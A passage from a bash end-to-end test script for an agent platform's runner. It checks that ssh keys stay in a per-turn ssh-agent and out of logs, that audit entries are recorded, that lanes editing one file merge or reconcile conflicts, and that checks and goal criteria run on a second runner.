  started=$(mcp start_session "{\"agent_id\":\"$jobs_agent\",\"message\":\"ssh deploy@web-1 uptime; echo exit=\$?\",\"idempotency_key\":\"runner-e2e-4c-$$\"}")
  sid=$(field "$started" 'v["session"]["session_id"]')
  said=$(turn_texts "$sid" "$(field "$started" 'v["cursor"]')" "$(field "$started" 'v["message_id"]')")
  grep -qF 'ssh ran: deploy@web-1 uptime' <<<"$said" && grep -q 'exit=0' <<<"$said" || fail "ssh through the shim: $said"
  grep -qF "$fingerprint" <<<"$said" || fail "the turn's agent does not hold the key ($fingerprint): $said"
  sock=$(cat "$work/ssh-sock.txt")
  [ -n "$sock" ] || fail "the real ssh got no SSH_AUTH_SOCK"
  [ ! -e "$sock" ] || fail "the agent socket $sock outlived the turn"
  if pgrep -f "$sock" >/dev/null; then fail "an ssh-agent for $sock outlived the turn"; fi
  ok "ssh deploy@web-1: the key was in the turn's ssh-agent ($fingerprint), never a file; its socket is gone after the turn"
  all=$(mcp read_session "{\"session_id\":\"$sid\",\"limit\":200}")
  if grep -qF "PRIVATE KEY" <<<"$all" || grep -qF "PRIVATE KEY" "$work/jobs.log"; then fail "the key is in a transcript or the runner's log"; fi
  audit=$(curl -fsS "$URL/v1/audit" -H "Authorization: Bearer $KEY")
  actions=$(field "$audit" '" ".join(sorted(set(e["action"] for e in v["entries"] if e["connector_id"] == "'"$web1"'")))')
  [ "$actions" = "command_ok policy_decided policy_set ssh_key_loaded" ] || fail "the audit log of web-1: $actions"
  ok "the audit log has web-1's policies and a decision one made, the key loaded into the runner's agent and the exit 0 the runner saw"
  curl -fsS -X POST "$URL/v1/sessions/$sid/ask" -H "Authorization: Bearer $KEY" -H 'content-type: application/json' \
    -d '{"kind":"deploy"}' >/dev/null || fail "POST /v1/sessions/$sid/ask"
  said=$(run_turn "$sid" "ssh deploy@web-1 ./deploy.sh && python3 $work/tool.py remember_command '{\"kind\":\"deploy\",\"command\":\"ssh deploy@web-1 ./deploy.sh\",\"targetId\":\"$web1\"}'" deploy)
  grep -qF 'ssh ran: deploy@web-1 ./deploy.sh' <<<"$said" && grep -qF '{"ok":true}' <<<"$said" \
    || fail "remember_command deploy after the runner ran it and saw exit 0: $said"
  ok "remember_command accepted ssh deploy@web-1 ./deploy.sh: the runner ran it under the grant and saw exit 0"
else
  printf '\033[1;33m  SKIP ssh: ssh-agent, ssh-add or ssh-keygen is not installed (scripts/setup.sh installs them where it can)\033[0m\n' >&2
fi

# ── 5. Lanes that merge, and checks on another runner once the session's own is gone ──
log "runner: two runner sessions edit one file (merged, then a conflict reconciled); checks on a second runner"
acct=$(curl -fsS -X POST "$URL/v1/accounts" -H 'content-type: application/json' \
  -d "{\"name\":\"Runner Merge E2E\",\"email\":\"merge-$email\"}") || fail "POST /v1/accounts"
KEY=$(field "$acct" 'v["key"]["key"]')
merge_agent=$(curl -fsS -X POST "$URL/v1/agents" -H "Authorization: Bearer $KEY" -H 'content-type: application/json' \
  -d '{"name":"Merger","harness":"runner","model":"sh","instructions":"Run the message."}') || fail "POST /v1/agents"
merge_agent=$(field "$merge_agent" 'v["agent_id"]')
env -u AGENTSKY_API_KEY HOME="$runner_home" TMPDIR="$work/tmp" PATH="$work/bin:/usr/bin:/bin" \
  "$SKY" runner --server "$URL" --key "$KEY" --name "e2e merge A" -- sh "$work/jobs-agent.sh" >"$work/merge-a.log" 2>&1 &
runner_pids+=($!)
merge_a=$!
started=$(mcp start_session "{\"agent_id\":\"$merge_agent\",\"message\":\"true\",\"idempotency_key\":\"runner-e2e-5a-$$\"}")
s1=$(field "$started" 'v["session"]["session_id"]')
task=$(field "$started" 'v["session"]["task_id"]')
turn_texts "$s1" "$(field "$started" 'v["cursor"]')" "$(field "$started" 'v["message_id"]')" >/dev/null
curl -fsS -X PUT "$URL/v1/tasks/$task/settings" -H "Authorization: Bearer $KEY" -H 'content-type: application/json' \
  -d '{"lanes":true}' >/dev/null || fail "PUT /v1/tasks/$task/settings"
mcp write_task_file "{\"task_id\":\"$task\",\"path\":\"app.txt\",\"content\":\"one\\ntwo\\nthree\\nfour\\nfive\\n\"}" >/dev/null
mcp write_task_file "{\"task_id\":\"$task\",\"path\":\".agentsky/project.json\",\"content\":\"{\\\"checks\\\": {\\\"command\\\": \\\"grep -qi one app.txt\\\"}}\"}" >/dev/null
started=$(mcp start_session "{\"agent_id\":\"$merge_agent\",\"task_id\":\"$task\",\"message\":\"true\",\"idempotency_key\":\"runner-e2e-5b-$$\"}")
s2=$(field "$started" 'v["session"]["session_id"]')
turn_texts "$s2" "$(field "$started" 'v["cursor"]')" "$(field "$started" 'v["message_id"]')" >/dev/null
base_app() { field "$(mcp read_task_file "{\"task_id\":\"$task\",\"path\":\"app.txt\"}")" 'v["content"]'; }
land_in() { # SESSION KEY SED -> the land result the agent printed
  run_turn "$1" "sed -i '$3' app.txt && python3 $work/tool.py land '{\"summary\":\"$2\"}'" "$2" | grep -F '"landed"' | head -1
}
# 5a. Different places of one file, edited in both lanes before either lands: both land, merged.
run_turn "$s1" "sed -i 's/^one\$/ONE/' app.txt" s1-one >/dev/null
run_turn "$s2" "sed -i 's/^five\$/FIVE/' app.txt" s2-five >/dev/null
said=$(run_turn "$s1" "python3 $work/tool.py land '{\"summary\":\"Shout one\"}'" s1-land)
grep -qF '"landed":true' <<<"$said" || fail "the first lane's land: $said"
said=$(run_turn "$s2" "python3 $work/tool.py land '{\"summary\":\"Shout five\"}'" s2-land)
grep -qF '"landed":true' <<<"$said" && grep -qF 'merged app.txt' <<<"$said" || fail "the second lane's land: $said"
[ "$(base_app)" = "$(printf 'ONE\ntwo\nthree\nfour\nFIVE')" ] || fail "the base after both landed: $(base_app)"
ok "two lanes edited app.txt in different places; both landed and the base has both edits"
# 5b. The same line in both lanes: the second gets the conflict's region, reconciles and lands.
said=$(land_in "$s1" s1-two 's/^two$/TWO by s1/')
grep -qF '"landed":true' <<<"$said" || fail "s1's land of line two: $said"
said=$(land_in "$s2" s2-two 's/^two$/two by s2/')
grep -qF '"landed":false' <<<"$said" && grep -qF 'conflict: app.txt' <<<"$said" || fail "s2's land of line two: $said"
region=$(field "$(grep -o '{.*' <<<"$said")" 'v["conflicts"][0]["regions"][0]')
[ "$(field "$region" 'v["lane"]["text"] + "|" + v["base"]["text"] + "|" + v["merge_base"]')" = "$(printf 'two by s2\n|TWO by s1\n|two\n')" ] \
  || fail "the conflict's region: $region"
said=$(land_in "$s2" s2-reconcile 's/^two by s2$/TWO by s1 and s2/')
grep -qF '"landed":true' <<<"$said" || fail "s2's land of its reconciled file: $said"
[ "$(base_app)" = "$(printf 'ONE\nTWO by s1 and s2\nthree\nfour\nFIVE')" ] || fail "the base after reconciling: $(base_app)"
ok "the same line in both lanes: a conflict with its region, reconciled by the agent, landed"
# 5c. The session's runner is gone: its checks run on another runner of the workspace, in a fresh
# checkout of the merged lane (the checks need s1's edit and the base's reconciled line together; a line
# apart, since edits to adjacent lines conflict, as in git).
run_turn "$s1" "sed -i 's/^four\$/FOUR/' app.txt" s1-four >/dev/null
kill -TERM "$merge_a" 2>/dev/null; wait "$merge_a" 2>/dev/null || true
mcp write_task_file "{\"task_id\":\"$task\",\"path\":\".agentsky/project.json\",\"content\":\"{\\\"checks\\\": {\\\"command\\\": \\\"grep -q FOUR app.txt && grep -q 'TWO by s1 and s2' app.txt && echo checked-merged\\\"}}\"}" >/dev/null
env -u AGENTSKY_API_KEY HOME="$runner_home" TMPDIR="$work/tmp" PATH="$work/bin:/usr/bin:/bin" \
  "$SKY" runner --server "$URL" --key "$KEY" --name "e2e checks B" -- sh -c 'echo "B runs no turns"; exit 9' >"$work/checks-b.log" 2>&1 &
runner_pids+=($!)
for _ in $(seq 1 100); do grep -q 'waiting for turns' "$work/checks-b.log" && break; sleep 0.2; done
token=$(curl -fsS -X POST "$URL/v1/sessions/$s1/token" -H "Authorization: Bearer $KEY") || fail "POST /v1/sessions/$s1/token"
token=$(field "$token" 'v["token"]')
reply=$(curl -sS --max-time 120 -X POST "$URL/v1/session/mcp" -H "Authorization: Bearer $token" -H 'content-type: application/json' \
  -H 'accept: application/json, text/event-stream' -H 'mcp-protocol-version: 2025-06-18' \
  -d '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"land","arguments":{"summary":"Shout three"}}}') || fail "land over the session server"
landed=$(field "$reply" 'v["result"]["content"][0]["text"]')
[ "$(field "$landed" 'v["landed"]')" = true ] || fail "land with the session's runner gone: $landed"
grep -qF 'on another runner of the workspace, in a fresh checkout of the lane' <<<"$landed" || fail "where the checks ran: $landed"
grep -qF "running checks" "$work/checks-b.log" && grep -qF "exited 0" "$work/checks-b.log" || { cat "$work/checks-b.log" >&2; fail "runner B did not run the checks"; }
[ "$(base_app)" = "$(printf 'ONE\nTWO by s1 and s2\nthree\nFOUR\nFIVE')" ] || fail "the base after the third landing: $(base_app)"
ok "with the session's runner gone, a second runner ran the checks in a fresh checkout of the merged lane, and it landed"
# 5d. A goal's command criteria on a session no runner holds (an echo agent's, in this task; runner A is
# gone): run like land's checks, on runner B in a fresh checkout of the session's lane. Exit 0 meets the
# criterion, exit 1 does not.
echo_agent=$(curl -fsS -X POST "$URL/v1/agents" -H "Authorization: Bearer $KEY" -H 'content-type: application/json' \
  -d '{"name":"Echo","harness":"echo","model":"echo","instructions":"Echo."}') || fail "POST /v1/agents (echo)"
echo_agent=$(field "$echo_agent" 'v["agent_id"]')
goal_on_echo() { # NAME CRITERION_COMMAND -> the goal once it stopped
  local started sid goal
  started=$(mcp start_session "{\"agent_id\":\"$echo_agent\",\"task_id\":\"$task\",\"message\":\"hello\",\"idempotency_key\":\"runner-e2e-5d-$1-$$\"}")
  sid=$(field "$started" 'v["session"]["session_id"]')
  turn_texts "$sid" "$(field "$started" 'v["cursor"]')" "$(field "$started" 'v["message_id"]')" >/dev/null
  mcp set_goal "{\"session_id\":\"$sid\",\"objective\":\"$1\",\"criteria\":[{\"text\":\"$1\",\"command\":\"$2\"}],\"max_iterations\":1,\"idempotency_key\":\"runner-e2e-5d-goal-$1-$$\"}" >/dev/null
  for _ in $(seq 1 240); do
    goal=$(mcp get_goal "{\"session_id\":\"$sid\"}")
    [ "$(field "$goal" 'v["goal"]["status"]')" != active ] && break
    sleep 0.5
  done
  echo "$goal"
}
goal=$(goal_on_echo four 'grep -q FOUR app.txt')
[ "$(field "$goal" 'v["goal"]["status"]')" = met ] || fail "the goal whose command exits 0: $goal"
[ "$(field "$goal" 'v["goal"]["last_verdicts"][0]["reason"]')" = '`grep -q FOUR app.txt` exited 0 (on another runner of the workspace, in a fresh checkout of the lane)' ] \
  || fail "its verdict: $goal"
goal=$(goal_on_echo six 'grep -q SIX app.txt')
[ "$(field "$goal" 'v["goal"]["status"] + " " + json.dumps(v["goal"]["last_verdicts"][0]["met"])')" = "limit_reached false" ] \
  || fail "the goal whose command exits 1: $goal"
grep -qF '`grep -q SIX app.txt` exited 1' <<<"$goal" || fail "its verdict: $goal"
grep -qF 'running checks `grep -q FOUR app.txt`' "$work/checks-b.log" && grep -qF 'running checks `grep -q SIX app.txt`' "$work/checks-b.log" \
  || { cat "$work/checks-b.log" >&2; fail "runner B did not run the goal's commands"; }
ok "a goal's command criterion on a session without a runner ran on runner B in a checkout of its lane: exit 0 met it, exit 1 did not"

log "runner: all checks passed"
echo "runner: $passed passed, 0 failed"
